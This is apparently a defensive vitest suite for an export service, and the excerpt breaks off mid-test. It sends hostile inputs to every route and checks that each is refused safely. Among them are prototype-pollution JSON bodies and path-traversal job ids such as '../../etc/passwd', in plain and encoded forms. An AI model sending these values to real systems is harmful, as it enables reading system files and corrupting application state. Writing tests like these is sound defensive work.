import { readdir, readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { Worker } from 'node:worker_threads';
import { type ReadWorkbook, readXlsx, values, xlsxParts } from '@org/test-xlsx';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import type { ExecutorApp } from '../../src/app.js';
import { buildTestAppWithFolder } from '../build-test-app.js';
import { type JobView, jobFolders, ndjsonOf, waitForJobStatus } from '../job-helpers.js';

/**
 * Hostile input, one class per test, on every route it reaches: the JSON body of /export/run,
 * /export/stream and /export/jobs, and the NDJSON upload of /export/stream and /export/jobs
 * (options in the query string). Each answer is a 4xx with a code and a message naming the
 * field or line, or a 200/202 whose output is checked to be safe.
 */

type Format = 'csv' | 'pdf' | 'xlsx';
type Route = 'run' | 'stream' | 'jobs' | 'stream-ndjson' | 'jobs-ndjson';

const jsonRoutes = ['run', 'stream', 'jobs'] as const;
const ndjsonRoutes = ['stream-ndjson', 'jobs-ndjson'] as const;
const allRoutes: readonly Route[] = [...jsonRoutes, ...ndjsonRoutes];
const urlOf: Record<Route, string> = {
  run: '/export/run',
  stream: '/export/stream',
  jobs: '/export/jobs',
  'stream-ndjson': '/export/stream',
  'jobs-ndjson': '/export/jobs',
};
const ndjson = { 'content-type': 'application/x-ndjson' };
const json = { 'content-type': 'application/json' };
const safeDisposition = /^attachment; filename="export-[0-9a-f-]{36}\.(csv|pdf|xlsx)"$/;

afterAll(() => {
  // Whatever the bodies held, no object anywhere gained a property.
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  expect(Object.keys(Object.prototype)).toEqual([]);
});

interface ExportOptions {
  format: Format;
  columns?: unknown;
  title?: string;
  csvProfile?: 'excel' | 'rfc4180';
}

interface Exported {
  statusCode: number;
  body: string;
  /** The file, when the export succeeded: the run's file, the stream, or the job's download. */
  file?: Buffer;
  /** Content-Disposition of the stream or of the job's download. */
  disposition?: string | undefined;
}

/**
 * Exports `records` through one route and returns the answer and, when it succeeded, the file.
 * `records` may be raw NDJSON (a Buffer or string) for the NDJSON routes.
 */
async function exportThrough(
  app: ExecutorApp,
  exportDirectory: string,
  route: Route,
  records: readonly unknown[] | Buffer | string,
  options: ExportOptions,
): Promise<Exported> {
  const isNdjson = route.endsWith('ndjson');
  const query = new URLSearchParams({ format: options.format });
  if (options.columns !== undefined) query.set('columns', String(options.columns));
  if (options.title !== undefined) query.set('title', options.title);
  if (options.csvProfile !== undefined) query.set('csvProfile', options.csvProfile);
  const response = await app.inject({
    method: 'POST',
    url: isNdjson ? `${urlOf[route]}?${query}` : urlOf[route],
    headers: isNdjson ? ndjson : json,
    payload: isNdjson
      ? Array.isArray(records)
        ? ndjsonOf(records)
        : (records as Buffer | string)
      : JSON.stringify({ ...options, data: records }),
  });
  const answer: Exported = { statusCode: response.statusCode, body: response.body };
  if (route === 'run' && response.statusCode === 200) {
    answer.file = await readFile(join(exportDirectory, response.json().result.filename));
  } else if (route.startsWith('stream') && response.statusCode === 200) {
    answer.file = response.rawPayload;
    answer.disposition = response.headers['content-disposition'] as string;
  } else if (route.startsWith('jobs') && response.statusCode === 202) {
    const job = await waitForJobStatus(app, response.json<JobView>().id, ['done', 'failed'], {
      timeoutMs: 60_000,
    });
    expect(job.error).toBeNull();
    const download = await app.inject({ method: 'GET', url: job.links.download });
    expect(download.statusCode).toBe(200);
    answer.file = download.rawPayload;
    answer.disposition = download.headers['content-disposition'] as string;
  }
  return answer;
}

function expectError(answer: { statusCode: number; body: string }, status: number, code: string) {
  expect(answer.statusCode, answer.body).toBe(status);
  const error = JSON.parse(answer.body);
  expect(error).toMatchObject({ statusCode: status, code, message: expect.any(String) });
  return error as { message: string };
}

/** The CSV's rows, BOM removed, as a spreadsheet would split them. */
function csvRows(file: Buffer): string[][] {
  return parse(file, { bom: true, relax_column_count: true });
}

/**
 * The workbook as openpyxl reads it, once every part of its zip is found well-formed XML: a
 * workbook a spreadsheet would refuse fails here.
 */
async function readWorkbook(file: Buffer): Promise<ReadWorkbook> {
  const workbook = await readXlsx(file);
  const verdicts = Object.values(workbook.parts);
  expect(verdicts.length).toBeGreaterThan(5);
  expect(new Set(verdicts)).toEqual(new Set(['well-formed']));
  return workbook;
}

/** The cells of the workbook's first sheet, as openpyxl reads them. */
async function xlsxRows(file: Buffer): Promise<unknown[][]> {
  return values((await readWorkbook(file)).sheets[0]);
}

/**
 * Text as openpyxl 3.0 gives it back from a workbook: the characters XML cannot hold stay
 * Excel's `_xHHHH_` escapes, which a spreadsheet decodes.
 */
// A document property is plain XML text, which no reader decodes `_xHHHH_` in: its controls
// are written as spaces, as in a PDF's title.
function asPropertyReadsIt(text: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: the controls are what it finds
  return text.replace(/[\0-\x08\x0B\x0C\x0E-\x1F]/g, ' ');
}

function asOpenpyxlReadsIt(text: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: the controls are what it finds
  return text.replace(/[\0-\x08\x0B\x0C\x0E-\x1F]/g, (character) => {
    const unit = character.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0');
    return `_x${unit}_`;
  });
}

interface PdfReading {
  pages: number;
  /** The text of every page, as a viewer extracts it. */
  text: string;
  title: unknown;
}

// pdfjs runs in a worker thread: the core-js polyfills of its legacy build make JSON.stringify
// about 35 times slower in the thread that loads it, which would skew every measure here.
const pdfjsUrl = pathToFileURL(
  join(
    dirname(createRequire(import.meta.url).resolve('pdfjs-dist/package.json')),
    'legacy/build/pdf.mjs',
  ),
).href;
const pdfReaderSource = `
const { parentPort, workerData } = require('node:worker_threads');
const loading = import(workerData.pdfjsUrl);
parentPort.on('message', async ({ id, data }) => {
  try {
    const { getDocument } = await loading;
    const document = await getDocument({ data, verbosity: 0 }).promise;
    try {
      let text = '';
      for (let number = 1; number <= document.numPages; number += 1) {
        const content = await (await document.getPage(number)).getTextContent();
        for (const item of content.items) if ('str' in item) text += item.str + ' ';
      }
      const { info } = await document.getMetadata();
      parentPort.postMessage({ id, reading: { pages: document.numPages, text, title: info.Title } });
    } finally {
      await document.destroy();
    }
  } catch (error) {
    parentPort.postMessage({ id, error: String((error && error.stack) || error) });
  }
});
`;
const pdfReader = new Worker(pdfReaderSource, { eval: true, workerData: { pdfjsUrl } });
const pendingReadings = new Map<
  number,
  (answer: { reading?: PdfReading; error?: string }) => void
>();
let nextReading = 0;
pdfReader.on('message', (answer: { id: number; reading?: PdfReading; error?: string }) => {
  pendingReadings.get(answer.id)?.(answer);
  pendingReadings.delete(answer.id);
});
afterAll(() => pdfReader.terminate());

/** Reads a PDF back the way a viewer does (pdfjs); fails the test if it cannot be read. */
async function pdfText(file: Buffer): Promise<PdfReading> {
  const id = nextReading++;
  const answer = await new Promise<{ reading?: PdfReading; error?: string }>((resolve) => {
    pendingReadings.set(id, resolve);
    pdfReader.postMessage({ id, data: new Uint8Array(file) });
  });
  if (answer.error !== undefined || answer.reading === undefined) {
    throw new Error(`pdfjs could not read the PDF: ${answer.error}`);
  }
  return answer.reading;
}

interface Measured<Value> {
  value: Value;
  ms: number;
  /** Peak resident memory above what it was when the measure began, in MB. */
  peakRssGrowthMb: number;
  /** The longest the event loop was blocked, in ms. */
  maxEventLoopDelayMs: number;
}

// The garbage of the previous export would otherwise count against the next one.
setFlagsFromString('--expose-gc');
const collectGarbage = runInNewContext('gc') as () => void;

async function measure<Value>(work: () => Promise<Value>): Promise<Measured<Value>> {
  collectGarbage();
  const before = process.memoryUsage().rss;
  let peak = before;
  // One sampler for both: resident memory, and how late its own 5 ms ticks come (the loop blocked).
  let lastTick = performance.now();
  let longestGap = 0;
  const sampler = setInterval(() => {
    const now = performance.now();
    longestGap = Math.max(longestGap, now - lastTick);
    lastTick = now;
    peak = Math.max(peak, process.memoryUsage().rss);
  }, 5);
  const start = performance.now();
  try {
    const value = await work();
    return {
      value,
      ms: Math.round(performance.now() - start),
      peakRssGrowthMb: Math.round((Math.max(peak, process.memoryUsage().rss) - before) / 1e6),
      maxEventLoopDelayMs: Math.round(Math.max(longestGap, performance.now() - lastTick)),
    };
  } finally {
    clearInterval(sampler);
  }
}

describe('hostile input', () => {
  it('answers malformed JSON with 400 EXECUTOR_INVALID_JSON saying what is wrong, keeping nothing', async () => {
    const { app, exportDirectory } = await buildTestAppWithFolder();
    const bodies = [
      '{"format":',
      '{"format":"csv","data":[{"a":1}],}',
      "{'format':'csv'}",
      '{"format":"csv","data":[{"a":1}]}trailing',
      'nope',
      '\u0000',
    ];
    for (const route of jsonRoutes) {
      for (const body of bodies) {
        const response = await app.inject({
          method: 'POST',
          url: urlOf[route],
          headers: json,
          body,
        });
        const error = expectError(response, 400, 'EXECUTOR_INVALID_JSON');
        expect(error.message).toMatch(/^body is not valid JSON: .*(JSON|position)/);
      }
      const empty = await app.inject({
        method: 'POST',
        url: urlOf[route],
        headers: json,
        body: '',
      });
      expect(expectError(empty, 400, 'EXECUTOR_INVALID_JSON').message).toMatch(/empty/);
    }
    expect(await jobFolders(exportDirectory)).toEqual([]);
    expect((await readdir(exportDirectory)).filter((name) => name !== 'jobs')).toEqual([]);
  });

  it('answers a wrong type in any field with 400 EXECUTOR_INVALID_REQUEST naming the field', async () => {
    const { app, exportDirectory } = await buildTestAppWithFolder();
    const valid = { format: 'csv', data: [{ a: 1 }] };
    const bodies: Array<[Record<string, unknown>, RegExp]> = [
      [{ ...valid, format: 1 }, /body\/format /],
      [{ ...valid, format: 'xls' }, /body\/format /],
      [{ ...valid, format: null }, /body\/format /],
      [{ data: valid.data }, /body must have required properties format/],
      [{ format: 'csv' }, /body must have required properties data/],
      [{ ...valid, data: 'x' }, /body\/data must be array/],
      [{ ...valid, data: { a: 1 } }, /body\/data must be array/],
      [{ ...valid, data: [{ a: 1 }, 2] }, /body\/data\/1 /],
      [{ ...valid, data: [null] }, /body\/data\/0 /],
      [{ ...valid, columns: 'a' }, /body\/columns must be array/],
      [{ ...valid, columns: [] }, /body\/columns must not have fewer than 1 items/],
      [{ ...valid, columns: [1] }, /body\/columns\/0 /],
      [{ ...valid, columns: [''] }, /body\/columns\/0 /],
      [{ ...valid, columns: [{ key: 1 }] }, /body\/columns\/0\/key must be string/],
      [{ ...valid, columns: [{ key: 'a', width: '9' }] }, /body\/columns\/0\/width must be number/],
      [{ ...valid, columns: [{ key: 'a', width: -1 }] }, /body\/columns\/0\/width /],
      [{ ...valid, columns: [{ key: 'a', align: 'up' }] }, /body\/columns\/0\/align /],
      [{ ...valid, columns: [{ key: 'a', format: 'x' }] }, /body\/columns\/0\/format /],
      [{ ...valid, title: 5 }, /body\/title must be string/],
      [{ ...valid, title: ['t'] }, /body\/title must be string/],
      [{ ...valid, user: {} }, /body\/user must be string/],
      [{ ...valid, csvProfile: true }, /body\/csvProfile /],
      [{ ...valid, extra: 1 }, /body\/extra .*additional properties/],
    ];
    for (const route of jsonRoutes) {
      for (const [body, field] of bodies) {
        const response = await app.inject({ method: 'POST', url: urlOf[route], payload: body });
        expect(expectError(response, 400, 'EXECUTOR_INVALID_REQUEST').message).toMatch(field);
      }
      for (const body of ['[]', '"csv"', '1', 'null', 'true']) {
        const response = await app.inject({
          method: 'POST',
          url: urlOf[route],
          headers: json,
          body,
        });
        expect(expectError(response, 400, 'EXECUTOR_INVALID_REQUEST').message).toMatch(
          /^body must be object/,
        );
      }
    }
    const queries: Array<[string, RegExp]> = [
      ['', /querystring\/format must be one of csv, pdf, xlsx for an NDJSON upload/],
      ['format=xls', /querystring\/format /],
      ['format=csv&format=pdf', /querystring\/format /],
      ['format=csv&csvProfile=word', /querystring\/csvProfile /],
      ['format=csv&columns=', /querystring\/columns /],
      ['format=csv&columns=a,,b', /querystring\/columns\/1 is an empty key/],
      ['format=csv&columns=[1]', /querystring\/columns\/0 must be string/],
      ['format=csv&columns=a&columns=', /querystring\/columns\/1 /],
      ['format=pdf&title=a&title=b', /querystring\/title must be string/],
    ];
    for (const route of ndjsonRoutes) {
      for (const [query, field] of queries) {
        const response = await app.inject({
          method: 'POST',
          url: `${urlOf[route]}?${query}`,
          headers: ndjson,
          body: ndjsonOf([{ a: 1 }]),
        });
        expect(expectError(response, 400, 'EXECUTOR_INVALID_REQUEST').message).toMatch(field);
      }
    }
    const listQueries: Array<[string, RegExp]> = [
      ['limit=abc', /querystring\/limit /],
      ['limit=0', /querystring\/limit must be from 1 to 100/],
      ['limit=1000', /querystring\/limit must be from 1 to 100/],
      ['limit=-1', /querystring\/limit /],
      ['status=lost', /querystring\/status /],
      ['format=doc', /querystring\/format /],
      ['cursor=!!!', /querystring\/cursor /],
      [`cursor=${'x'.repeat(1001)}`, /querystring\/cursor /],
      ['limit=1&limit=2', /querystring\/limit /],
    ];
    for (const [query, field] of listQueries) {
      const response = await app.inject({ method: 'GET', url: `/export/jobs?${query}` });
      expect(expectError(response, 400, 'EXECUTOR_INVALID_REQUEST').message).toMatch(field);
    }
    expect(await jobFolders(exportDirectory)).toEqual([]);
  });

  it('refuses a 10 MB cell as a record or an NDJSON line over 1 MiB, in bounded time and memory', async () => {
    const { app, exportDirectory } = await buildTestAppWithFolder();
    const unit = 'ab,"c"\nŞü📈 =x;';
    const big = unit.repeat(Math.ceil((10 * 1024 * 1024) / Buffer.byteLength(unit)));
    const records = [
      { id: 1, big },
      { id: 2, big: 'small' },
    ];
    const observations: string[] = [];
    // The limit is the routes' and the reader's, before any writer: a workbook is refused alike.
    for (const format of ['csv', 'xlsx'] as const) {
      for (const route of allRoutes) {
        const measured = await measure(() =>
          exportThrough(app, exportDirectory, route, records, { format }),
        );
        const answer = measured.value;
        observations.push(
          `${format} ${route}: ${answer.statusCode}, ${measured.ms} ms, +${measured.peakRssGrowthMb} MB RSS, event loop blocked up to ${measured.maxEventLoopDelayMs} ms`,
        );
        expect(measured.ms).toBeLessThan(30_000);
        expect(measured.peakRssGrowthMb).toBeLessThan(768);
        expect(measured.maxEventLoopDelayMs).toBeLessThan(5_000);
        // A worker never has to parse far more than 1 MiB at once: one allocation far past its
        // heap cap would end the whole process, which the cap cannot catch.
        if (route.endsWith('ndjson')) {
          const error = expectError(answer, 413, 'EXPORT_LINE_TOO_LONG');
          expect(error.message).toBe('line 1 is longer than 1048576 bytes (option `maxLineBytes`)');
        } else {
          const error = expectError(answer, 413, 'EXECUTOR_RECORD_TOO_LARGE');
          expect(error.message).toMatch(/^body\/data\/0 is longer than 1048576 bytes/);
        }
      }
    }
    expect(await jobFolders(exportDirectory)).toEqual([]);
    console.info(`10 MB cell:\n${observations.join('\n')}`);
  });

  it('exports a 600 KB cell whole in CSV, cut in PDF and cut to 32,767 characters in XLSX, in bounded time and memory', async () => {
    const { app, exportDirectory } = await buildTestAppWithFolder();
    // Mixed text, so both CSV quoting and PDF glyph lookup do real work.
    const unit = 'ab,"c"\nŞü📈 =x;';
    // 600 KiB, under 1 MiB once written as JSON with its escapes.
    const big = unit.repeat(Math.floor((600 * 1024) / Buffer.byteLength(unit)));
    const records = [
      { id: 1, big },
      { id: 2, big: 'small' },
    ];
    // What an XLSX cell holds: Excel's 32,767 characters, the last one "…", no half emoji.
    let cutAt = 32_767 - 1;
    if (/[\uD800-\uDBFF]/.test(big.charAt(cutAt - 1))) cutAt -= 1;
    const xlsxCell = `${big.slice(0, cutAt)}…`;
    const observations: string[] = [];
    for (const format of ['csv', 'pdf', 'xlsx'] as const) {
      for (const route of allRoutes) {
        const measured = await measure(() =>
          exportThrough(app, exportDirectory, route, records, { format, csvProfile: 'rfc4180' }),
        );
        const answer = measured.value;
        observations.push(
          `${format} ${route}: ${answer.statusCode}, ${answer.file?.length ?? 0} bytes, ${measured.ms} ms, +${measured.peakRssGrowthMb} MB RSS, event loop blocked up to ${measured.maxEventLoopDelayMs} ms`,
        );
        expect(measured.ms).toBeLessThan(30_000);
        expect(measured.peakRssGrowthMb).toBeLessThan(768);
        expect(measured.maxEventLoopDelayMs).toBeLessThan(5_000);
        expect(answer.statusCode, answer.body).toBeLessThan(300);
        const file = answer.file as Buffer;
        if (format === 'csv') {
          const rows = csvRows(file);
          expect(rows[1]?.[1]).toBe(big);
          expect(rows[2]).toEqual(['2', 'small']);
        } else if (format === 'xlsx') {
          // Cut to what a sheet's cell holds, so the file stays small too.
          expect(file.length).toBeLessThan(200_000);
          const rows = await xlsxRows(file);
          expect(rows[0]).toEqual(['id', 'big']);
          expect(rows[1]).toEqual([1, xlsxCell]);
          expect(rows[1]?.[1]).toHaveLength(32_767);
          expect(rows[2]).toEqual([2, 'small']);
        } else {
          // A PDF cell never grows past its column: the cell is cut with "…", the file small.
          expect(file.length).toBeLessThan(200_000);
          const pdf = await pdfText(file);
          expect(pdf.pages).toBe(1);
          expect(pdf.text).toContain('…');
          expect(pdf.text).toContain('small');
        }
      }
    }
    console.info(`600 KB cell:\n${observations.join('\n')}`);
  });

  it('exports 5,000 columns from the records, and refuses 5,000 named columns naming the limit', async () => {
    const { app, exportDirectory } = await buildTestAppWithFolder();
    const keys = Array.from({ length: 5_000 }, (_, index) => `column${index}`);
    const record = Object.fromEntries(keys.map((key, index) => [key, `v${index}`]));
    const observations: string[] = [];
    for (const format of ['csv', 'pdf', 'xlsx'] as const) {
      for (const route of allRoutes) {
        const measured = await measure(() =>
          exportThrough(app, exportDirectory, route, [record, record], { format }),
        );
        const answer = measured.value;
        observations.push(
          `${format} ${route}: ${answer.statusCode}, ${answer.file?.length ?? 0} bytes, ${measured.ms} ms, +${measured.peakRssGrowthMb} MB RSS`,
        );
        expect(measured.ms).toBeLessThan(30_000);
        expect(measured.peakRssGrowthMb).toBeLessThan(768);
        if (format === 'csv') {
          expect(answer.statusCode, answer.body).toBeLessThan(300);
          const rows = csvRows(answer.file as Buffer);
          expect(rows).toHaveLength(3);
          expect(rows[0]).toEqual(keys);
          expect(rows[2]?.[4_999]).toBe('v4999');
        } else if (format === 'xlsx') {
          // A sheet holds 16,384 columns: all 5,000 are there, A to GJH.
          expect(answer.statusCode, answer.body).toBeLessThan(300);
          const workbook = await readWorkbook(answer.file as Buffer);
          const rows = values(workbook.sheets[0]);
          expect(rows).toHaveLength(3);
          expect(rows[0]).toEqual(keys);
          expect(rows[2]?.[4_999]).toBe('v4999');
          expect(workbook.sheets[0]?.autoFilter).toBe('A1:GJH3');
        } else {
          // 5,000 columns cannot fit a page: refused, naming how many would, never a blank table.
          expect(expectError(answer, 400, 'EXPORT_TABLE_TOO_WIDE').message).toMatch(
            /^the table's 5000 columns need at least .* the first \d+ fit/,
          );
        }
      }
      for (const route of jsonRoutes) {
        const response = await app.inject({
          method: 'POST',
          url: urlOf[route],
          payload: { format, data: [record], columns: keys },
        });
        expect(expectError(response, 400, 'EXECUTOR_INVALID_REQUEST').message).toBe(
          'body/columns must not have more than 1000 items',
        );
      }
      for (const route of ndjsonRoutes) {
        const response = await app.inject({
          method: 'POST',
          url: `${urlOf[route]}?format=${format}&columns=${keys.join(',')}`,
          headers: ndjson,
          body: ndjsonOf([record]),
        });
        // The first of the union's errors: a single value is too long to be the keys.
        expect(expectError(response, 400, 'EXECUTOR_INVALID_REQUEST').message).toMatch(
          /^querystring\/columns must not have more than 20000 characters,/,
        );
      }
    }
    console.info(`5,000 columns:\n${observations.join('\n')}`);
  });

  it('refuses a record nested deeper than 64 levels with a 400 naming it, at any depth, on every route', async () => {
    const { app, exportDirectory } = await buildTestAppWithFolder();
    const arrays = (levels: number) => `${'['.repeat(levels)}${']'.repeat(levels)}`;
    const objects = (levels: number) => `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;
    let keptJobs: string[] = [];
    for (const nested of [arrays, objects]) {
      // The record is 1 deep, so its `deep` value may nest 63 more: exported as JSON text.
      const fits = JSON.parse(nested(63));
      for (const format of ['csv', 'pdf', 'xlsx'] as const) {
        for (const route of allRoutes) {
          const answer = await exportThrough(app, exportDirectory, route, [{ id: 1, deep: fits }], {
            format,
          });
          expect(answer.statusCode, `${format} ${route}: ${answer.body}`).toBeLessThan(300);
          if (format === 'csv') {
            // Quotes doubled, as CSV writes them.
            expect(answer.file?.toString()).toContain(JSON.stringify(fits).replaceAll('"', '""'));
          } else if (format === 'xlsx') {
            // One text cell of the JSON, as sent.
            expect(await xlsxRows(answer.file as Buffer)).toEqual([
              ['id', 'deep'],
              [1, JSON.stringify(fits)],
            ]);
          }
        }
      }
      keptJobs = (await jobFolders(exportDirectory)).sort();
      for (const levels of [64, 100_000]) {
        for (const format of ['csv', 'xlsx'] as const) {
          for (const route of allRoutes) {
            const isNdjson = route.endsWith('ndjson');
            const response = await app.inject({
              method: 'POST',
              url: isNdjson ? `${urlOf[route]}?format=${format}` : urlOf[route],
              headers: isNdjson ? ndjson : json,
              body: isNdjson
                ? `{"id":1,"deep":null}\n{"id":2,"deep":${nested(levels)}}\n`
                : `{"format":"${format}","data":[{"id":1,"deep":null},{"id":2,"deep":${nested(levels)}}]}`,
            });
            const error = expectError(response, 400, 'EXPORT_INVALID_RECORD');
            expect(error.message).toBe(
              isNdjson
                ? 'line 2 is nested deeper than 64 levels (option `maxDepth`)'
                : 'record 1 is nested deeper than 64 levels (option `maxDepth`)',
            );
          }
        }
      }
      // Deep where a string is expected: refused by the same limit, with where it is.
      const title = await app.inject({
        method: 'POST',
        url: '/export/run',
        headers: json,
        body: `{"format":"pdf","data":[{"a":1}],"title":${nested(100_000)}}`,
      });
      expect(expectError(title, 400, 'EXECUTOR_INVALID_REQUEST').message).toBe(
        // The 65th level below `title`'s own value opens there.
        `body has a value nested deeper than 64 levels at byte ${nested === arrays ? 42 + 64 : 46 + 64 * 5}`,
      );
      const data = await app.inject({
        method: 'POST',
        url: '/export/stream',
        headers: json,
        body: `{"format":"csv","data":[${nested(100_000)}]}`,
      });
      expect(expectError(data, 400, 'EXPORT_INVALID_RECORD').message).toMatch(/^record 0 /);
      // No refused job was kept.
      expect((await jobFolders(exportDirectory)).sort()).toEqual(keptJobs);
    }
    // Still serving.
    const after = await exportThrough(app, exportDirectory, 'stream', [{ a: 1 }], {
      format: 'csv',
    });
    expect(after.statusCode).toBe(200);
  });

  it('answers invalid UTF-8 with 400 naming the byte, drops NUL from CSV, escapes it in XLSX, and answers a raw NUL with 400 naming the line', async () => {
    const { app, exportDirectory } = await buildTestAppWithFolder();
    const invalidBytes = [
      [0xff],
      [0xfe, 0xff],
      [0xc3], // a lead byte with nothing after it
      [0xc0, 0xaf], // an overlong "/"
      [0xed, 0xa0, 0x80], // a UTF-16 surrogate, encoded
      [0xf4, 0x90, 0x80, 0x80], // past U+10FFFF
    ];
    const line = (bytes: number[]) =>
      Buffer.concat([Buffer.from('{"id":1,"name":"a'), Buffer.from(bytes), Buffer.from('b"}\n')]);
    for (const route of ndjsonRoutes) {
      for (const bytes of invalidBytes) {
        for (const format of ['csv', 'xlsx'] as const) {
          const answer = await exportThrough(app, exportDirectory, route, line(bytes), {
            format,
            csvProfile: 'rfc4180',
          });
          // Never read as U+FFFD, which would export something that was not sent: the first bad
          // byte is named (17 bytes of `{"id":1,"name":"a` come before it).
          expect(expectError(answer, 400, 'EXPORT_INVALID_UTF8').message).toMatch(
            /^line 1 is not valid UTF-8: byte 17 /,
          );
        }
      }
      // An escaped NUL is a character of the value: CSV drops it (fast-csv cannot write it).
      const escaped = await exportThrough(app, exportDirectory, route, '{"a":"x\\u0000y"}\n', {
        format: 'csv',
        csvProfile: 'rfc4180',
      });
      expect(csvRows(escaped.file as Buffer)[1]).toEqual(['xy']);
      // A PDF draws it, and other control characters, as a space, and still renders.
      const pdf = await exportThrough(
        app,
        exportDirectory,
        route,
        Buffer.from('{"a":"x\\u0000y\\u0007z","b":"é"}\n'),
        { format: 'pdf' },
      );
      expect(pdf.statusCode).toBeLessThan(300);
      expect((await pdfText(pdf.file as Buffer)).text).toContain('x y z');
      // A workbook keeps them as Excel's escapes, which a spreadsheet decodes, and stays valid.
      const xlsx = await exportThrough(
        app,
        exportDirectory,
        route,
        Buffer.from('{"a":"x\\u0000y\\u0007z","b":"é"}\n'),
        { format: 'xlsx' },
      );
      expect(xlsx.statusCode).toBeLessThan(300);
      expect(await xlsxRows(xlsx.file as Buffer)).toEqual([
        ['a', 'b'],
        ['x_x0000_y_x0007_z', 'é'],
      ]);
      // A raw NUL byte (or any raw control character) is not JSON: the line is named.
      for (const [body, lineNumber] of [
        ['{"a":1}\n{"a":2}\n{"a":"x\u0000y"}\n', 3],
        ['{"a":1}\n\u0000\n', 2],
        ['{"a":1}\u0000\n', 1],
        ['\n\n{"a":"\u0001"}\n', 3],
      ] as const) {
        for (const format of ['csv', 'pdf', 'xlsx'] as const) {
          const response = await app.inject({
            method: 'POST',
            url: `${urlOf[route]}?format=${format}`,
            headers: ndjson,
            body: body,
          });
          const error = expectError(response, 400, 'EXPORT_INVALID_RECORD');
          expect(error.message).toMatch(new RegExp(`^line ${lineNumber} is not valid JSON: `));
        }
      }
    }
    // A JSON body is decoded the same way.
    for (const route of jsonRoutes) {
      const body = Buffer.concat([
        Buffer.from('{"format":"csv","csvProfile":"rfc4180","data":[{"name":"a'),
        Buffer.from([0xff, 0xc3]),
        Buffer.from('b"}]}'),
      ]);
      const response = await app.inject({ method: 'POST', url: urlOf[route], headers: json, body });
      expect(expectError(response, 400, 'EXPORT_INVALID_UTF8').message).toMatch(/^byte 57 /);
      const raw = await app.inject({
        method: 'POST',
        url: urlOf[route],
        headers: json,
        body: '{"format":"csv","data":[{"name":"a\u0000b"}]}',
      });
      expect(expectError(raw, 400, 'EXECUTOR_INVALID_JSON').message).toMatch(
        /^body is not valid JSON: .*control character 0x00/,
      );
    }
  });

  it('refuses `__proto__` and `constructor.prototype` in a JSON body, reads NDJSON keys as own fields, and pollutes nothing', async () => {
    const { app, exportDirectory } = await buildTestAppWithFolder();
    const poisoned = [
      '{"format":"csv","data":[{"a":1}],"__proto__":{"polluted":true}}',
      '{"format":"csv","data":[{"a":1,"__proto__":{"polluted":true}}]}',
      '{"format":"csv","data":[{"a":1,"constructor":{"prototype":{"polluted":true}}}]}',
      '{"format":"csv","data":[{"a":1}],"columns":[{"key":"a","__proto__":{"polluted":true}}]}',
    ];
    for (const route of jsonRoutes) {
      for (const body of poisoned) {
        const response = await app.inject({
          method: 'POST',
          url: urlOf[route],
          headers: json,
          body,
        });
        expect(expectError(response, 400, 'EXECUTOR_INVALID_JSON').message).toBe(
          'body must not have a `__proto__` or `constructor.prototype` key',
        );
      }
      // `constructor` and `prototype` as plain field names are data like any other.
      const plain = await exportThrough(
        app,
        exportDirectory,
        route,
        [{ constructor: 'c', prototype: 'p', toString: 't' }],
        { format: 'csv', csvProfile: 'rfc4180' },
      );
      expect(csvRows(plain.file as Buffer)).toEqual([
        ['constructor', 'prototype', 'toString'],
        ['c', 'p', 't'],
      ]);
    }
    const inheritedNames = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];
    for (const route of allRoutes) {
      // Columns named after what every object inherits: a record without them has empty cells.
      const inherited = await exportThrough(app, exportDirectory, route, [{ a: 1 }], {
        format: 'csv',
        csvProfile: 'rfc4180',
        columns: route.endsWith('ndjson') ? `${inheritedNames},a` : [...inheritedNames, 'a'],
      });
      expect(csvRows(inherited.file as Buffer)).toEqual([
        [...inheritedNames, 'a'],
        ['', '', '', '', '', '1'],
      ]);
    }
    for (const route of ndjsonRoutes) {
      // An NDJSON line is parsed with JSON.parse: `__proto__` is an own field, not a prototype.
      const records =
        '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"a":1}\n';
      const csv = await exportThrough(app, exportDirectory, route, records, {
        format: 'csv',
        csvProfile: 'rfc4180',
      });
      expect(csvRows(csv.file as Buffer)).toEqual([
        ['__proto__', 'constructor', 'a'],
        ['{"polluted":true}', '{"prototype":{"polluted":true}}', '1'],
      ]);
      const pdf = await exportThrough(app, exportDirectory, route, records, { format: 'pdf' });
      expect((await pdfText(pdf.file as Buffer)).text).toContain('__proto__');
      const xlsx = await exportThrough(app, exportDirectory, route, records, { format: 'xlsx' });
      expect(await xlsxRows(xlsx.file as Buffer)).toEqual([
        ['__proto__', 'constructor', 'a'],
        ['{"polluted":true}', '{"prototype":{"polluted":true}}', 1],
      ]);
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  it('answers path-traversal and overlong job ids with 404 or 400, reading and deleting nothing', async () => {
    const { app, exportDirectory } = await buildTestAppWithFolder();
    const job = await exportThrough(app, exportDirectory, 'jobs', [{ a: 1 }], { format: 'csv' });
    expect(job.statusCode).toBe(202);
    const [jobId] = await jobFolders(exportDirectory);
    const ids = [
      '../../etc/passwd',
      '..%2F..%2Fetc%2Fpasswd',
      '..%252F..%252Fetc%252Fpasswd',
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      '..\\..\\windows\\win.ini',
      '..%5C..%5Cwindows%5Cwin.ini',
      `${jobId}%2F..%2F..%2F..%2Fetc%2Fpasswd`,
      `..%2F${jobId}`,
      '%2Fetc%2Fpasswd',
      '.',
      '..',
      '%2e%2e',
      'jobs',
      '%00',
      `${jobId}%00`,
      '__proto__',
      'constructor',
      'x'.repeat(100),
      'x'.repeat(101),
      'x'.repeat(10_000),
      '%E0%A4%A',
      '%ZZ',
    ];
    const requests = [
      ['GET', ''],
      ['GET', '/download'],
      ['HEAD', '/download'],
      ['DELETE', ''],
    ] as const;
    for (const id of ids) {
      for (const [method, suffix] of requests) {
        const response = await app.inject({ method, url: `/export/jobs/${id}${suffix}` });
        expect([400, 404], `${method} ${id}${suffix}: ${response.body}`).toContain(
          response.statusCode,
        );
        expect(response.body).not.toContain('root:');
